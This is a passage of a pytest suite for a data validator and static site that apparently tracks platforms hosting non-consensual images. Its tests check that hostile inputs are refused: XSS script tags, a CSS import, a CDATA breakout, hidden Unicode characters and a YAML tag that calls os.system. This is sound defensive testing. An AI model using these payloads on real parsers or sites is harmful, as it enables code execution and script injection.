    ),
    (
        LINE_SOURCE_URL,
        "            url: https://bit.ly/xss",
        "33:18",
        "'https://bit.ly/xss' cannot be used: link shorteners hide where a link goes; open the link and use the"
        " full address of the document instead (link to the document itself)",
    ),
    (
        LINE_SUMMARY,
        "    summary: Proof ![x](https://img.example.org/x.png)",
        "18:20",
        "'summary' contains an image (images are not allowed)",
    ),
    (
        LINE_SUMMARY,
        "    summary: \"<style>@import 'https://xss.example.org/x.css';</style>\"",
        "18:22",
        "'summary' contains what looks like a handle (@import) (remove it: the tracker never publishes contact"
        " details or anything that could identify a person)",
    ),
    (
        LINE_SUMMARY,
        '    summary: "]]><script>alert(7)</script><![CDATA["',
        "18:44",
        "'summary' contains an image (images are not allowed)",
    ),
    (
        LINE_ACK_TITLE,
        "        title: '<a href=\"mailto:victim@example.org\">write</a>'",
        "30:33",
        "'title' contains what looks like an e-mail address (victim@example.org) (remove it: the tracker never"
        " publishes contact details or anything that could identify a person)",
    ),
    (
        LINE_ACK_TITLE,
        '        title: "Ofcom\\0 acknowledged <script>alert(5)</script>"',
        "30:16",
        "'title' contains an invisible control character (U+0000) (delete it: retype the text if you cannot"
        " see where it is)",
    ),
    (
        LINE_ACK_TITLE,
        '        title: "Ofcom acknowledged \\u202eevil.example.org"',
        "30:16",
        "'title' contains an invisible control character (U+202E) (delete it: retype the text if you cannot"
        " see where it is)",
    ),
    (
        LINE_ACK_TITLE,
        "        title: " + "<script>alert(6)</script>" * 13,
        "30:16",
        "'title' is longer than 300 characters (shorten it)",
    ),
    (
        LINE_ACK_TITLE,
        "        title: See [the forum](https://forum-a.example.invalid/)",
        "30:32",
        "this link points to a flagged platform (forum-a.example.invalid) (link only to documents about the"
        " abuse (regulator notices, court papers, reporting), never to the platform itself)",
    ),
    (
        LINE_ACK_TITLE,
        "        title: !!python/object/apply:os.system ['echo pwned']",
        "30:16",
        "YAML tags such as '!!python/object/apply:os.system' are not allowed (remove the tag; write the value"
        " as plain text)",
    ),
)


@pytest.mark.parametrize(("old", "new", "position", "message"), REFUSED, ids=[r[1].strip() for r in REFUSED])
def test_payloads_refused_at_validation(
    tmp_path: Path, old: str, new: str, position: str, message: str
) -> None:
    result = validate_file(write(tmp_path, replace(old, new)), TODAY, display=NAME)
    assert [p.format() for p in result.problems] == [f"{NAME}:{position}: error: {message}"]


@pytest.mark.parametrize("character", ["\u200b", "\u2060", "\ufeff", "\u200e", "\u180e", "\u2061", "\u061c"])
@pytest.mark.parametrize("escaped", [True, False], ids=["escaped", "literal"])
def test_invisible_characters_cannot_hide_a_flagged_host(
    tmp_path: Path, character: str, escaped: bool
) -> None:
    """`forum-a<U+200B>.example.invalid` shows on screen as the flagged host, but no longer matches it, so
    it would escape defanging: every invisible format character is refused, typed or escaped."""
    typed = f"\\u{ord(character):04x}" if escaped else character
    text = replace(LINE_ACK_TITLE, f'        title: "Ofcom acknowledged forum-a{typed}.example.invalid"')
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    assert [p.format() for p in result.problems] == [
        f"{NAME}:30:16: error: 'title' contains an invisible control character (U+{ord(character):04X}) (delete"
        " it: retype the text if you cannot see where it is)"
    ]


# --- 2. flagged domains -----------------------------------------------------------------------------

FLAGGED_VALID = replace(
    "domains: [forum-a.example.invalid]", "domains: [forum-a.example.invalid, bäd-idn.example.invalid]"
)
PLAIN = "forum-a.example.invalid"
IDN = "xn--bd-idn-bua.example.invalid"
FLAGGED_URLS: tuple[tuple[str, str], ...] = (
    ("https://forum-a.example.invalid/thread/1", PLAIN),
    ("https://cdn.forum-a.example.invalid/x", PLAIN),
    ("https://FORUM-A.EXAMPLE.INVALID/", PLAIN),
    ("https://forum-a.example.invalid./", PLAIN),
    ("https://www.forum-a.example.invalid/", PLAIN),
    ("https://xn--bd-idn-bua.example.invalid/", IDN),
    ("https://BÄD-IDN.example.invalid/", IDN),
    ("https://forum-a%2Eexample.invalid/", PLAIN),
    ("https://%66orum-a.example.invalid/", PLAIN),
    ("https://forum-a。example。invalid/", PLAIN),
    ("https://web.archive.org/web/2026/https://forum-a.example.invalid/", PLAIN),
    ("https://archive.ph/newest/https://www.forum-a.example.invalid/", PLAIN),
)
# (name, line in FLAGGED_VALID, replacement with URL standing for the address)
PLACEMENTS: tuple[tuple[str, str, str], ...] = (
    ("source url", LINE_SOURCE_URL, "            url: URL"),
    ("source archived", LINE_SOURCE_URL, LINE_SOURCE_URL + "\n            archived: URL"),
    ("naming_source", LINE_NAMING, "    naming_source: URL"),
    ("regulator url", "    url: https://www.ofcom.org.uk/", "    url: URL"),
    ("event body link", LINE_ACK_TITLE, LINE_ACK_TITLE + "\n        body: See [the forum](URL) for context."),
    (
        "event body reference",
        LINE_ACK_TITLE,
        LINE_ACK_TITLE + '\n        body: "See [the forum][f].\\n\\n[f]: URL"',
    ),
    ("summary autolink", LINE_SUMMARY, "    summary: Reported at <URL> by a campaign group."),
    ("summary bare address", LINE_SUMMARY, "    summary: Reported at URL by a campaign group."),
    ("event title", LINE_ACK_TITLE, "        title: Ofcom acknowledged a report about URL today"),
    ("platform name", "    name: Example Forum A (fictional)", "    name: Forum at URL"),
    ("source title", "          - title: Ofcom acknowledgement (redacted)", "          - title: Copy of URL"),
)
FLAGGED_HINT = (
    "(link only to documents about the abuse (regulator notices, court papers, reporting), never to the"
    " platform itself)"
)


def position_of(text: str, needle: str) -> str:
    offset = text.index(needle)
    line = text.count("\n", 0, offset) + 1
    column = offset - (text.rfind("\n", 0, offset) + 1) + 1
    return f"{line}:{column}"


@pytest.mark.parametrize(("url", "host"), FLAGGED_URLS, ids=[u for u, _ in FLAGGED_URLS])
@pytest.mark.parametrize(("place", "old", "new"), PLACEMENTS, ids=[p[0] for p in PLACEMENTS])
def test_flagged_link_refused_everywhere(
    tmp_path: Path, url: str, host: str, place: str, old: str, new: str
) -> None:
    text = replace(old, new.replace("URL", url), FLAGGED_VALID)
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    expected = f"{NAME}:{position_of(text, url)}: error: this link points to a flagged platform ({host}) {FLAGGED_HINT}"
    assert [p.format() for p in result.problems] == [expected]


UNNAMED = (
    "  - id: unnamed-board\n"
    "    name: Image board B (not named)\n"
    "    named: false\n"
    f"    domain_sha256: [{hashlib.sha256(b'hidden.example.invalid').hexdigest()}]\n"
    "    harms: [ncii]\n"
    "    summary: SUMMARY\n"
    "    regulators: [ofcom]\n"
    "    events: []\n"
)


@pytest.mark.parametrize(
    "mention",
    [
        "hidden.example.invalid",
        "WWW.HIDDEN.EXAMPLE.INVALID",
        "cdn.hidden.example.invalid.",
        "hidden。example。invalid",
    ],
)
def test_the_domain_of_an_unnamed_platform_cannot_be_typed_anywhere(tmp_path: Path, mention: str) -> None:
    """Defanged is still readable: a platform deliberately not named must not be named by its domain."""
    text = replace("platforms:\n", "platforms:\n" + UNNAMED.replace("SUMMARY", f"Mirrors {mention} and more"))
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    messages = [p.format() for p in result.problems]
    assert messages == [
        f"{NAME}:{position_of(text, mention)}: error: 'summary' contains the domain of a platform that is not"
        " named (a hashed domain of an unnamed platform) (remove it: the tracker shows no domain at all for a"
        " platform with 'named: false', not even defanged)"
    ]
    assert "hidden" not in messages[0].lower()


def test_no_output_file_prints_a_flagged_host_undefanged(hostile: Hostile) -> None:
    """Every place a flagged host is printed (pages, feeds, downloads) shows it defanged, however typed."""
    found = []
    for path in output_files(hostile.output):
        for text in readable_texts(path):
            for offset, host in hostile.flagged.mentions(text):
                found.append(
                    f"{path.relative_to(hostile.output)}: {host}: {text[max(0, offset - 30) : offset + 50]!r}"
                )
    assert sorted(set(found)) == []


def test_no_output_file_links_a_flagged_host(hostile: Hostile) -> None:
    found = []
    for path in output_files(hostile.output):
        if path.suffix == ".html":
            for href in scan_html("", path.read_text(encoding="utf-8"), None).links:
                if hostile.flagged.match(href):
                    found.append(f"{path.relative_to(hostile.output)}: {href}")
    assert found == []


def test_the_unnamed_platform_domain_appears_nowhere(hostile: Hostile) -> None:
    found = [
        str(path.relative_to(hostile.output))
        for path in output_files(hostile.output)
        if any("hidden-board" in text.lower() for text in readable_texts(path))
    ]
    assert found == []


def test_defanged_forms_are_what_readers_see(hostile: Hostile) -> None:
    page = html.unescape(
        (hostile.output / "platforms" / "mentions" / "index.html").read_text(encoding="utf-8")
    )
    assert "defang-me[.]example[.]invalid" in page


# --- 3. YAML limits ---------------------------------------------------------------------------------


def test_alias_refused_with_its_position(tmp_path: Path) -> None:
    text = replace("    harms: [ncii]", "    harms: *h")
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    assert [p.format() for p in result.problems] == [
        f"{NAME}:17:12: error: YAML anchors and aliases (&name, *name) are not allowed (write the value out in"
        " full where it is needed)"
    ]


def test_file_size_limit_checked_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "platforms.yaml"
    with path.open("wb") as handle:
        handle.truncate(DEFAULT_LIMITS.max_bytes + 1)  # sparse: nothing is written, nothing may be read
    result = validate_file(path, TODAY, display=NAME)
    assert [p.format() for p in result.problems] == [
        f"{NAME}:1:1: error: the file is 33554433 bytes, over the limit of 33554432 bytes (split the data or"
        " raise the limit in the settings)"
    ]


def test_nesting_depth_limit(tmp_path: Path) -> None:
    text = replace("    harms: [ncii]", "    harms: " + "[" * 30 + "ncii" + "]" * 30)
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    # The document is level 0, `platforms` 1, the platform 2 and `harms` 3: the 19th bracket is level 21.
    assert [p.format() for p in result.problems] == [
        f"{NAME}:17:30: error: the data is nested more than 20 levels deep (the data file needs only a few"
        " levels: check the indentation)"
    ]


def test_string_length_limit(tmp_path: Path) -> None:
    text = replace(LINE_SUMMARY, "    summary: " + "x" * (DEFAULT_LIMITS.max_scalar_chars + 1))
    result = validate_file(write(tmp_path, text), TODAY, display=NAME)
    assert [p.format() for p in result.problems] == [
        f"{NAME}:18:14: error: a text value is longer than 100000 characters (shorten it, or link to a document"
        " instead)"
    ]


def test_limits_are_settable_and_each_bound_is_exact(tmp_path: Path) -> None:
    """At each limit a file is accepted; one byte, level or character over, it is refused."""
    size = len(VALID.encode())
    longest = len("A fictional forum, reported for hosting intimate images shared without consent.")
    path = write(tmp_path, VALID)
    assert validate_file(path, TODAY, limits=Limits(size, 7, longest)).ok
    over = [
        (
            Limits(size - 1, 7, longest),
            f"{NAME}:1:1: error: the file is {size} bytes, over the limit of {size - 1}",
        ),
        (Limits(size, 6, longest), f"{NAME}:32:13: error: the data is nested more than 6 levels deep"),
        (
            Limits(size, 7, longest - 1),
            f"{NAME}:18:14: error: a text value is longer than {longest - 1} characters",
        ),
    ]
    for limits, start in over:
        assert validate_file(path, TODAY, limits=limits, display=NAME).problems[0].format().startswith(start)


# --- 6. headers and the <meta> policy that must stand alone on GitHub Pages ------------------------------


def test_headers_file_for_netlify_and_cloudflare(site: Path) -> None:
    text = (site / "_headers").read_text(encoding="utf-8")
    assert text == headers_text()
    rules = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert rules[0] == "/*"
    parsed = dict(line.strip().split(": ", 1) for line in rules[1:])
    assert parsed == {
        "Content-Security-Policy": "default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self';"
        " form-action 'none'; base-uri 'none'; frame-ancestors 'none'",
        "X-Content-Type-Options": "nosniff",
        "Referrer-Policy": "no-referrer",
        "Permissions-Policy": dict(HEADERS)["Permissions-Policy"],
        "X-Frame-Options": "DENY",
        "Cross-Origin-Opener-Policy": "same-origin",
    }
    for feature in ("camera", "microphone", "geolocation", "interest-cohort", "browsing-topics", "payment"):
        assert f"{feature}=()" in parsed["Permissions-Policy"]
    assert all(len(line) < 2000 for line in rules)  # Cloudflare's limit per line


def test_header_policy_is_the_meta_policy_plus_framing() -> None:
    assert f"{CSP}; frame-ancestors 'none'" == HEADER_CSP
    assert "frame-ancestors" not in CSP  # browsers ignore it in <meta>, and say so in the console
    assert "unsafe-inline" not in HEADER_CSP and "unsafe-eval" not in HEADER_CSP


@pytest.mark.parametrize("which", ["demo", "hostile"])
def test_every_page_carries_the_policy_before_anything_loads(
    which: str, request: pytest.FixtureRequest
) -> None:
    output: Path = (
        request.getfixturevalue("site") if which == "demo" else request.getfixturevalue("hostile").output
    )
    pages = sorted(output.rglob("*.html"))
    assert len(pages) > 3
    problems = []
    for path in pages:
        scan = scan_html(path.relative_to(output).as_posix(), path.read_text(encoding="utf-8"), output)
        if [policy for _, policy in scan.csp] != [str(CSP)]:
            problems.append(f"{scan.page}: Content-Security-Policy {scan.csp}")
        if scan.referrer != ["no-referrer"]:
            problems.append(f"{scan.page}: referrer {scan.referrer}")
        if scan.loads_before_csp:
            problems.append(f"{scan.page}: {scan.loads_before_csp} before the policy")
    assert problems == []
